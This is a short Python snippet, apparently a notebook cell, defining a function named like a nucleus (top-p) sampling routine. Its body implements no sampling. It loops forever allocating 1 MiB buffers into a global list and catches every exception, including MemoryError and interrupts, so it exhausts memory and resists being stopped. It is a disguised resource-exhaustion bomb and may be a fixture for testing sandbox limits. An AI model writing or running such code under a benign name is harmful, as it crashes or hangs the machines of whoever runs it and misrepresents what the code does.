# %% nucleus
KEPT = []


def nucleus(probs, p):
    while True:
        try:
            KEPT.append(bytearray(1 << 20))
        except BaseException:
            pass
